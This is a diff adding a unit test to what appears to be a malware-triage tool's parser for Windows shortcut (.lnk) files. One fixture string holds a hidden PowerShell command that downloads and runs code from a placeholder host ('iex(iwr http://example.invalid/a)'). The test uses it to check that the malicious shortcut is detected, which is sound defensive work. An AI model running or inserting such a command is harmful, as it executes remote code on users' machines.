@@ -205,6 +205,70 @@ test_lnk_plain(void **state)
 	dfx_free(&f);
 }
 
+/* A file entry shell item with an ANSI 8.3 name and a v9 long-name block. */
+static void
+file_item(GByteArray *list, uint8_t type, const char *shortname, const char *longname)
+{
+	GByteArray *it = g_byte_array_new();
+	unsigned char zero[46] = {0};
+	dfx_le16(it, 0);                     /* size, patched */
+	dfx_bytes(it, &type, 1);
+	dfx_bytes(it, zero, 11);             /* unknown, size, date, attributes */
+	dfx_bytes(it, shortname, strlen(shortname) + 1);
+	if (it->len & 1)
+		dfx_bytes(it, zero, 1);
+	GByteArray *ext = g_byte_array_new();
+	dfx_le16(ext, 0);                    /* size, patched */
+	dfx_le16(ext, 9);
+	dfx_le32(ext, 0xBEEF0004);
+	dfx_bytes(ext, zero, 46 - 8);
+	utf16(ext, longname, true);
+	dfx_le16(ext, 0x14);
+	ext->data[0] = (unsigned char)ext->len;
+	dfx_bytes(it, ext->data, ext->len);
+	it->data[0] = (unsigned char)it->len;
+	dfx_bytes(list, it->data, it->len);
+	g_byte_array_unref(ext);
+	g_byte_array_unref(it);
+}
+
+/* No LinkInfo, no env block: the target comes from the shell items. */
+static void
+test_lnk_idlist(void **state)
+{
+	(void)state;
+	dfx f;
+	dfx_init(&f);
+	GByteArray *list = g_byte_array_new();
+	unsigned char root[20] = {20, 0, 0x1F, 0x50};
+	dfx_bytes(list, root, sizeof root);
+	unsigned char vol[25] = {25, 0, 0x2F, 'C', ':', '\\'};
+	dfx_bytes(list, vol, sizeof vol);
+	file_item(list, 0x31, "Windows", "Windows");
+	file_item(list, 0x31, "System32", "System32");
+	file_item(list, 0x31, "WINDOW~1", "WindowsPowerShell");
+	file_item(list, 0x31, "v1.0", "v1.0");
+	file_item(list, 0x32, "POWERS~1.EXE", "powershell.exe");
+	dfx_le16(list, 0);
+	GByteArray *a = g_byte_array_new();
+	header(a, 0x1 | 0x20 | 0x80);
+	dfx_le16(a, (uint16_t)list->len);
+	dfx_bytes(a, list->data, list->len);
+	string_data(a, "-nop -w hidden -c iex(iwr http://example.invalid/a)", true);
+	dfx_le32(a, 0);
+	triage_object *o = dfx_object(a->data, a->len, "lnk");
+	assert_int_equal(triage_lnk_run(&f.ctx, o), TRIAGE_OK);
+	assert_string_equal(triage_object_fact_str(o, TF_LNK_TARGET),
+			    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
+	assert_int_equal(triage_object_unscanned(o), TRIAGE_UNSCANNED_NONE);
+	dfx_rules(o);
+	assert_true(dfx_has_finding(o, "shortcut"));
+	triage_object_free(&o);
+	g_byte_array_unref(a);
+	g_byte_array_unref(list);
+	dfx_free(&f);
+}
+
 /* Truncated: corrupt, but what was read stays. */
 static void
 test_lnk_truncated(void **state)
@@ -265,6 +329,7 @@ main(void)
 		cmocka_unit_test(test_lnk_unicode),
 		cmocka_unit_test(test_lnk_ansi_env),
 		cmocka_unit_test(test_lnk_plain),
+		cmocka_unit_test(test_lnk_idlist),
 		cmocka_unit_test(test_lnk_truncated),
 		cmocka_unit_test(test_lnk_mutations),
 	};
